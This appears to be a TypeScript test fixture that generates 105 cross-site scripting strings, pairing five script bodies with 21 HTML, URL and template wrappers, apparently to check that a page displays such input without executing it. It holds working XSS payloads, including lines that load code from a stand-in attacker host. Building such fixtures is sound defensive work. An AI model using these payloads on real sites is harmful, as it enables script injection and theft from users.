/** Ways to run a script. */
const SCRIPTS = [
  'alert(1)',
  'window.isAttacked=true',
  'top[`al`+`ert`](1)',
  'location=`javascript:alert(1)`',
  'import(`//evil.example`)',
];

/** Texts around them. */
const WRAPPINGS: ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `"><img src=x onerror=${script}>`,
  (script) => `'><svg/onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `java\tscript:${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `" autofocus onfocus=${script} x="`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<math><mtext><style><img src=x onerror=${script}>`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `$t(${script})`,
  (script) => `<base href="//evil.example/"><script src=x>${script}</script>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
];

/** 105 texts that a page may only show. */
export const HOSTILE_TEXTS = WRAPPINGS.flatMap((wrap) => SCRIPTS.map(wrap));
